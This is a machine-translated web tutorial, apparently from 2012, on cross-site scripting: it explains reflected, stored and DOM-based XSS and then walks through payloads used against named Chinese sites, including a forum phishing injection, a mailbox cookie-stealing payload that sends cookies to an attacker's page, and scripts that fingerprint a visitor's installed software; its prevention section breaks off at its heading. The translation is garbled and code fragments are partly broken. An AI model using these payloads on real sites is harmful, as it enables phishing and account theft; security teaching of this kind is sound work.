Cross-site Scripting attack and prevention tips for Web Defense series Tutorials

Source: Internet
Author: User
Tags cdata setcookie

Cross-site scripting attacks and prevention tips for Web Defense series tutorials [XSS]

Favorite: Http://

Source: Rising

2012-04-25 14:33:46Abstract: XSS cross-site scripting attacks have always been considered the most prevalent attack mode in client Web security. Because of the complexity of the web environment and the variability of the XSS cross-site scripting attacks, this type of attack is difficult to resolve completely. So, how does XSS cross-site scripting attack specific attack behavior, and how to effectively prevent it? This article has carried on the specific concrete example analysis to this.

XSS Cross-site scripting attacks have always been considered to be the most prevalent attack mode in client Web security. Because of the complexity of the web environment and the variability of the XSS cross-site scripting attacks, this type of attack is difficult to resolve completely. So, how does XSS cross-site scripting attack specific attack behavior, and how to effectively prevent it? This article has carried on the specific concrete example analysis to this.

Cross Site Scripting Attack (Scripting) is the use of Web programs to filter user input, input can be displayed on the page to affect other users of the HTML code, so as to steal user data, use the user body A way to attack a certain action or virus against a visitor. Cross-site scripting attacks are usually abbreviated as XSS for the purpose of separating the abbreviated CSS area of the cascading style sheet (cascading style Sheets).

The main function of the following page is to get the user input parameters as the user name, and in the page display "Welcome you, XXX" form, the specific code is as follows:


$username = $_get["name"];

echo "<p> welcome,". $username. "! </p> ";


Normally, the user submits the value of the parameter name to its name in the URL, and then the data content is displayed in the page through the above code, such as the user submits thename "Zhang San", the full URL address is as follows:

Http://localhost/test.php?name= Zhang San

When accessed in a browser, it displays the contents as shown in 1:

Figure 1

At this time, because the user input data information is normal data information, after the script processing page feedback source content for <p> welcome you, Zhang San!</p>. But what if the user submits data that contains code that might be executed by the browser? We continue to submit a value of name <script>alert (/My name is Zhang San/) </script> that is, the full URL address is
Http://localhost/test.php?name=<script>alert (/My name is Zhang San/) </script>

When accessed in the browser, we find a popup prompt, as shown in 2:

Figure 2

Then what is the source code of the page at this time?

The source becomes "<p> Welcome, <script>alert (/My name is Zhang San/) </script>!</p>", from the source code we found that the user entered the data in,<script> The code in the </script> tag is executed by the browser, and this is not what the Web script program wants. This example is the simplest form of an XSS cross-site scripting attack, called Reflective XSS.

Classification of XSS Cross-site scripting attacks

According to the forms and effects of XSS cross-site scripting attacks, it can be divided into the following three categories.

One, reflective XSS cross-site scripting attacks

The reflective XSS script attack is like the XSS cross-site scripting attack we mentioned above, which simply outputs the data entered by the user directly or without a complete security filter in the browser, resulting in code data that can be executed by the browser in the output data. Since this type of cross-site code exists in the URL, hackers often need to trick or encrypt the distortion, and so on, the presence of malicious code links to the user, only after the user clicks to make the attack successfulimplementation.

Second, storage-type XSS cross-site scripting attacksStorage-Type XSS script attack refers to the Web application will save the user input data information in the server side of the database or other file form, the Web page for data query display, the data content is obtained from the database, and the data content in the Web page to display, so the storage-type XSS has strong stability.

The most common scenario for storage-type XSS scripting attacks is in blogs or news release systems, where hackers write data that contains malicious code directly into an article or article comment, and all users who browse for articles or comments execute the inserted malicious code in their client browser environment. such as the popular Bo-blog program in the earlier version of the user submitted comments data filtering caused by the XSS cross-site Scripting attack vulnerability, hackers can submit in the article comments to insert malicious data UBB Code, submitted, Bo-blog program will save the data to the database, when the user browses the log, The inserted malicious code is executed, as shown in 3.

Figure 3

Third, Dom-based XSS cross-site scripting attacks

The DOM-based XSS cross-site scripting attack is an XSS cross-site scripting attack that is formed by modifying the data information of the page DOM nodes. Unlike reflective XSS and storage-type XSS, the DOM-based XSS cross-site scripting attack often requires analysis of specific JavaScript DOM code and the use of XSS cross-site scripting attacks based on the actual situation. Let's take a detailed analysis of the following code:

<title>dom Based XSS demo</title>


function Xsstest ()var str = document.getElementById ("input"). Value;

document.getElementById ("Output"). InnerHTML = "</img> ";




<div id= "Output" ></div>

<input type= "text" id= "input" size=50 value= ""/>

<input type= "button" value= "Submit" onclick= "Xsstest ()"/>


The function of the above code is to submit a picture of the URL address, the program will display the image in the page, such as we submit Baidu logo image address Http://, then the page shows the results as shown in 4.

Figure 4

When the user has entered the Baidu logo address, click on the "Submit" button, the "Submit" button onclick event will call the Xsstest () function. The Xsstest () function takes the user-submitted address, modifies the page's Dom node by innerHTML, writes the user-submitted data to the page inHTML code, and displays it. The HTML code output in the above example is "</img>".

The above situation is normal user input situation, how can hackers use this type of code to implement XSS cross-site scripting attacks? Hackers can construct the following data, enter "# ' onerror= ' Javascript:alert (/dom Based XSS test/)", in the browser after submission, found that the code is executed, there is a popup prompt, as shown in 5.

Figure 5

XSS Cross-site scripting attack instance

The above is a simple introduction to three types of XSS cross-site scripting attacks. Read the above description friends may think, is it just pop-up a popup box is the XSS cross-site scripting attack? The answer is of course the negation, the use of XSS cross-site scripting attacks can achieve a variety of effects, and even can be said that the use of XSS cross-site scripting exploits is a hacker attack art, below we combine specificexamples for detailed analysis and description, to learn about the XSS cross-site scripting attacks can do something.

XSS Cross-site scripting attacks using phishing

At present, the way of phishing attacks is more, including application for registration of similar domain names, the construction of a high degree of similarity of the site environment and the release of false winning information, but the above phishing attack method for a certain security awareness of netizens, it is difficult to achieve successful fishing attacks. However, phishing attacks through an XSS cross-site scripting attack could not withstand even a certain security-minded netizen. Here we present a phishing attack exploit using the XSS cross-site Scripting attack vulnerability of Shanda Games Forum (Currently, the vulnerability has been fixed). First of all, we need to understand is that the Grand game login is to use the Grand pass to log in, and the Grand Game Forum is also using agrand pass to log in, so if hackers by stealing the game player login Forum information, it is tantamount to stealing the player's game account and password. Grand Game Forum There is an XSS cross-site Scripting attack vulnerability, allowing hackers to obtain user's account and password through this vulnerability. There is a filter is not strict location for the user profile in the profile section, by entering the following code in the personal page bar:

[url]http://' style= ' A:expression (document.write ("<s\143ript language=javas\143ript src= JPG charset=gb23></s\143ript> ")) ' Target=_blank[/url]

Then use the account to post or reply to the Forum, so that when other players visit the posts we post or reply, the malicious code we insert will be executed. Http:// is the malicious code we construct, which is the page we use for fishing, as shown in 6:

Figure 6

Display the content and the Grand Official Game Forum login page, if not by viewing the page source code is not able to see any problem from the page display, when the player enters the pass account and password information and click Login, theaddress of the account is not a grand server, but the hacker's server. From the source code, you can see the account and password sent to the hacker server account receiving program address, as shown in 7:

Figure 7

XSS Cross-site scripting attacks steal user cookie information

Stealing user cookie information through an XSS cross-site scripting attack has been one of the most mainstream ways of exploiting XSS cross-site scripting exploits. When a user logs on to the Web application normally, the user gets a cookie containing a session token from the server:
A hacker can send a page that embeds malicious code to a user through an XSS cross-site scripting attack, and when the user clicks Browse, the hacker gets the cookie information of the user and uses that information to deceive the server, and can log in directly without the account password. Here we analyze and describe the XSS cross-site Scripting Attack vulnerability of NetEase mailbox. NetEase mailbox in the old version, there was an XSS cross-site Scripting attack vulnerability, hackers can construct the following code:

<xml id=i><x><c><! [Cdata[<! [Cdata[cript:xx=new Image (); xx.src= ' ' +escape (document. URL) + ' &cookie= ' +escape (document.cookie); "Width=0height=0>]]>

</c></x></xml><span datasrc= #I datafld=c dataformatas=html></span>

Figure 8

and send a message containing 8 malicious code to the NetEase mailbox user, when the user opens a message containing malicious code, The code automatically sends the user's cookie information to the 163.asp file on the, where 163.asp is recorded as a cookie that is sent over, and the cookie content recorded is asfollows 9:

Figure 9

After receiving a cookie, the login target mailbox can be implemented by cookie spoofing, as shown in 10.

Figure 10

XSS Cross-Site scripting attack collects client environment information

The collection of client environment information is primarily applied to targeted penetration attacks or network-mounted attacks, such as understanding browser information used by client environments, operating system information, installation of components, and installation of security software. XSS Cross-site scripting attacks make it easier and faster to collect client environment information.So how do you collect the above information from JavaScript? We construct the following script code and execute the code in the browser.


alert (navigator.useragent);


The results are as shown in 11.

Figure 11

This information tells us the above two information, one is the browser type and version, and the other is the client environment operating system version.

Browser: MSIE 8.0 (Microsoft Internet Explorer, browser version is 8.0)

Operating system: Windows NT 6.1 (operating system type is Windows 7)

The client's browser and operating system information can be obtainedthrough the above methods, and we continue to determine the client Environment component installation. The construction code is as follows:



var object = new ActiveXObject ("Xunleibho.thunderiehelper");

} catch (e) {alert ("Thunderbolt software not Installed");



In the client environment, if you install Thunderbolt download software, Then the appropriate ActiveX control will be installed Xunleibho.thunderiehelper, the role of the above script is to load the Thunderbolt ActiveX control through a Web page script, if the control exists will not throw an exception, otherwise it will throw an exception and be captured by the script, run the above script code, the installation of Thunder The environment will not have any hint, the environment that does not install Thunderbolt will pop the window prompt "Thunderbolt software not Installed".

The control can be judged by how the Web page loads the ActiveX control, so how does the script determine if the security software is installed in the client environment? Here we take the rising security software as an example, the analysis describes how the use of XSS cross-site scripting exploits exploit to detect the presence of the client environment rising security software. We construct the code as follows:


var Havesoft=false;

var disk=[' C ', ' d '];

var soft=[': \\Program files\\rising\\ris\\backrav.dll/2/30994 '];

for (i=0;i<soft.length;i++)

{for (j=0;j<disk.length;j++)

{var img=new Image ();

res= ' res://' +disk[j]+soft[i];


if (img.height!=30)The function of the above code is to load the resource files in the client environment through JavaScript and the RES protocol, after the JavaScript script runs, it accesses the C and D disks of the client environment, accesses the resource files for the default installation path of rising, and attempts to load the resource files. If the load is successful, then the existence of the resource file, also indicates the existence of rising security software, and the variable Havesoft to true, after the end of the script detection, only need to detect whether the variable is true.

XSS Worm

Compared to the above three cases, it can be said that the XSS worm (XSS worm) the destructive power and influence are enormous. XSS worm mainly occurs in the interaction between users of the page, when the Web application to user input data information isnot strictly filtered, by combining the asynchronous submission of Ajax, can be embedded in the malicious code, while the malicious code to send out, that is, to achievethe code of infection and transmission, It also forms an XSS worm.

When it comes to XSS worm, it is necessary to introduce the XSS worm attack of Sina Weibo, and we also use this attack as an example to analyze and describe the process of hacker malicious exploit to the widespread spread of XSS worm, and briefly analyze the malicious script file of the XSS worm.

See the My book "The Security of SNS website from the attack of Sina Weibo (next)", please do not repeat it.

Prevention of XSS cross-site scripting attack

Through the above description of the different scenarios of XSScross-site scripting attacks, we learned that in a complexweb environment, the use of XSS is ever-changing, how to effectively prevent the problem of XSS cross-site scripting attacks has always been the browser vendors and Web site security professionals concerned about the hot topic. Now many browser manufacturers in their own programs added to prevent XSS cross-site scripting attacks, such as Internet Explorer from IE8 has built-in XSS filter, Firefox also has the corresponding CSP, NoScript extension and so on. For the security technician of the website, it is critical to put forward an efficient technical solution to protect users from XSS cross-site scripting attacks. Below we combine the website security design, describe how to realize the prevention of XSS cross-sitescripting attack by technical means.
